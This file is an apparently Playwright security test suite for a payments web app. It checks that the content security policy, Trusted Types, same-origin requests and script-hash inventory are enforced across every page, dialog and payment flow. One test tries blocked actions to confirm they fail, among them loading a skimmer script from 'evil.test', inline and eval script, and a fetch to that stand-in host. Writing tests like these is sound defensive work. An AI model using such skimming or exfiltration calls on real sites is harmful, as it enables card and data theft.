import { readFileSync } from 'node:fs'
import { type BrowserContext, expect, type Page, test } from '@playwright/test'
import { INVENTORY, type Inventory, sha384 } from '@/server/page-check'
import { stackInfo } from '@/tools/testing/stack-info'
import { atTheTable, browserOf, complete, fillBank, fillDialog, openDialog } from '../support/app'
import { createFurnished } from '../support/furnished'
import { takenOver } from '../support/pages'
import { openPaymentPage, takenPayment } from '../support/payments'
import { addressOf, allRoutes } from '../support/routes'

// The whole product works under its own policy: no page or dialog does what it forbids, and none asks anybody but us.

/** Notes what the browser kept a page from, and whom its pages have asked. */
async function watch(context: BrowserContext) {
  const violations: string[] = []
  const foreign: string[] = []
  const { origin } = new URL(stackInfo().appUrl)
  await context.exposeBinding('noteViolation', (_, what: string) => violations.push(what))
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile, sample }) =>
      (window as unknown as { noteViolation: (what: string) => void }).noteViolation(
        [location.pathname, effectiveDirective, blockedURI, sourceFile, sample].join(' '),
      ),
    )
  })
  const follow = (page: Page) =>
    page
      // A page that asks whether it may be left, may.
      .on('dialog', (dialog) => void dialog.accept().catch(() => {}))
      .on('console', (message) => {
        if (/Content.Security.Policy|Trusted(?:Type|HTML|Script)|violates the following/i.test(message.text()))
          violations.push(message.text())
      })
      .on('pageerror', (error) => violations.push(`${page.url()} ${error.message}`))
      .on('request', (request) => {
        const url = new URL(request.url())
        if (!['data:', 'blob:', 'about:'].includes(url.protocol) && url.origin !== origin) foreign.push(request.url())
      })
  context.on('page', follow)
  for (const page of context.pages()) follow(page)
  return { violations, foreign }
}

/** Opens each menu and dialog of a page, and closes it. */
async function openEverything(page: Page): Promise<number> {
  const buttons = page.locator('button:visible:not([type="submit"]):not([aria-disabled="true"]):not(:disabled)')
  let opened = 0
  // What a press shows or hides changes the list: the count is asked for each time.
  for (let at = 0; at < (await buttons.count()); at++) {
    const button = buttons.nth(at)
    const label = await button.textContent({ timeout: 2_000 }).catch(() => null)
    if (label === null || /sign out/i.test(label)) continue
    const before = page.url()
    await button.click({ timeout: 2_000 }).catch(() => {})
    const dialog = page.getByRole('dialog').or(page.getByRole('alertdialog')).first()
    if (await dialog.isVisible()) {
      opened++
      await page.keyboard.press('Escape')
      if (await dialog.isVisible()) await page.goto(before)
    } else await page.keyboard.press('Escape')
    if (page.url() !== before) await page.goto(before)
  }
  return opened
}

/** So many routes at a time: each button of each of their pages takes minutes on a slow machine. */
const PORTION = 10
const PAGES = allRoutes().filter(({ isPage }) => isPage)

for (const person of ['admin', 'staff'] as const)
  for (let from = 0; from < PAGES.length; from += PORTION)
    test(`security 9: no page and none of its dialogs breaks the policy, and all of them ask only us: ${person}, ${from + 1} to ${Math.min(from + PORTION, PAGES.length)} of ${PAGES.length}`, async ({
      browser,
    }) => {
      const { values } = await createFurnished(browser)
      const page = await browserOf(browser, person)
      const { violations, foreign } = await watch(page.context())
      for (const route of PAGES.slice(from, from + PORTION)) {
        await page.goto(addressOf(route, values))
        await takenOver(page)
        await openEverything(page)
        expect(violations, route.route).toEqual([])
      }
      expect(foreign).toEqual([])
    })

test('security 9, 14: nor does a payment, by card or bank, its void and its receipt', async ({ browser }) => {
  const { company, job, page, dialog } = await atTheTable(browser, 5_000_000)
  const { violations, foreign } = await watch(page.context())
  await page.reload() // with the watch in it
  const again = await openDialog(page, company.slug, job)
  await fillDialog(again, { amount: '9,999.01' })
  await complete(again)
  await expect(again.getByText(/^Declined$/).first()).toBeVisible()
  await again.getByRole('button', { name: 'Try another card' }).click()
  await fillDialog(again, { amount: '100.00' })
  await complete(again)
  await expect(again.getByText(/^Authorized/).first()).toBeVisible()
  await again.getByRole('button', { name: 'Done' }).click()
  const bank = await openDialog(page, company.slug, job)
  await fillBank(bank, { amount: '40.00' })
  await complete(bank)
  await expect(bank.getByText(/^Submitted, pending settlement/).first()).toBeVisible()
  await bank.getByRole('button', { name: 'Done' }).click()
  await openPaymentPage(page, company.slug, job)
  expect(await openEverything(page)).toBeGreaterThan(0) // its void, at least
  await expect(dialog).toHaveCount(0)
  expect(violations).toEqual([])
  expect(foreign).toEqual([])
})

test('security 9: the email in the mailbox has its styles, and nothing of it runs', async ({ browser }) => {
  const { values } = await createFurnished(browser)
  const page = await browserOf(browser, 'admin')
  const { violations } = await watch(page.context())
  await page.goto(`/orgs/${values.org}/mailbox/${values.email}`)
  await expect(page.frameLocator('iframe').getByText('Receipt')).toHaveCSS('color', 'rgb(1, 2, 3)')
  expect(violations).toEqual([])
})

test('security 9, 11: what the policy forbids isn’t done, and is reported', async ({ browser }) => {
  const { company, job, contractor } = await takenPayment(browser)
  await contractor.goto(`/orgs/${company.slug}/jobs/${job.number}/agreement`)
  const { violations } = await watch(contractor.context())
  await contractor.reload()
  const did = await contractor.evaluate(async () => {
    const results: string[] = []
    const attempt = (name: string, act: () => void) => {
      try {
        act()
        results.push(name)
      } catch {
        // refused
      }
    }
    attempt('innerHTML', () => {
      document.body.insertAdjacentHTML('beforeend', '<b id="evil">x</b>')
    })
    attempt('foreign script', () => {
      document.createElement('script').src = 'https://evil.test/skim.js'
    })
    attempt('data script', () => {
      document.createElement('script').src = 'data:text/javascript,alert(1)'
    })
    attempt('another file of ours', () => {
      document.createElement('script').src = '/orgs/x/payments/export'
    })
    attempt('inline script', () => {
      document.createElement('script').text = 'window.evil = 1'
    })
    attempt('another policy', () => {
      ;(
        window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
      ).trustedTypes.createPolicy('evil', {})
    })
    attempt('the same policy again', () => {
      ;(
        window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }
      ).trustedTypes.createPolicy('default', {})
    })
    // Later: what the test itself runs may evaluate texts.
    await new Promise<void>((resolve) =>
      setTimeout(() => {
        attempt('eval', () => {
          Reflect.get(window, 'eval')('window.evil = 1')
        })
        attempt('Function', () => {
          new Function('window.evil = 1')()
        })
        resolve()
      }),
    )
    const style = document.createElement('style')
    style.textContent = 'body { outline: 7px solid red }'
    document.head.append(style)
    if (getComputedStyle(document.body).outlineWidth === '7px') results.push('style')
    await fetch('https://evil.test/').then(
      () => results.push('fetch'),
      () => {},
    )
    return results
  })
  expect(did).toEqual([])
  const named = (directive: string) => violations.some((violation) => violation.includes(directive))
  for (const directive of ['require-trusted-types-for', 'trusted-types', 'style-src-elem', 'connect-src'])
    await expect.poll(() => named(directive), directive).toBe(true)
})

test('security 9: React and Next load their own scripts under it, on pages that were never loaded anew', async ({
  browser,
}) => {
  const { values } = await createFurnished(browser)
  const page = await browserOf(browser, 'admin')
  const { violations } = await watch(page.context())
  await page.goto(`/orgs/${values.org}/jobs`)
  for (const link of ['Customers', 'Payments', 'Settings', 'Jobs']) {
    await page.getByRole('link', { name: link, exact: true }).first().click()
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  }
  expect(violations).toEqual([])
})

test('security 12, 13: the inventory has every script that the payment page loads, with its hash and a reason', async ({
  browser,
}) => {
  const inventory: Inventory = JSON.parse(readFileSync(INVENTORY, 'utf8'))
  const { company, job, page } = await atTheTable(browser, 100_000)
  const scripts = new Set<string>()
  page.on('request', (request) => {
    if (request.resourceType() === 'script') scripts.add(request.url())
  })
  const dialog = await openDialog(page, company.slug, job)
  await fillDialog(dialog, { amount: '10.00' })
  await complete(dialog)
  await expect(dialog.getByText(/^Authorized/).first()).toBeVisible()
  expect(scripts.size).toBeGreaterThan(8)
  for (const url of scripts) {
    const name = new URL(url).pathname.replace('/_next/static/', '')
    expect(inventory.paymentPage, name).toContain(name)
    expect(inventory.files[name]?.reason, name).toBeTruthy()
    expect(inventory.files[name]?.sha384, name).toBe(sha384(await (await page.request.get(url)).body()))
  }
  // React's and Next's own have their hash on the page, too: a browser runs no other.
  const html = await (await page.request.get('/sign-in')).text()
  expect(html.match(/<script[^>]* integrity="sha384-/g)?.length).toBeGreaterThan(4)
  expect(await (await page.request.get('/api/health')).json()).toMatchObject({ ok: true, page: 'as built' })
})
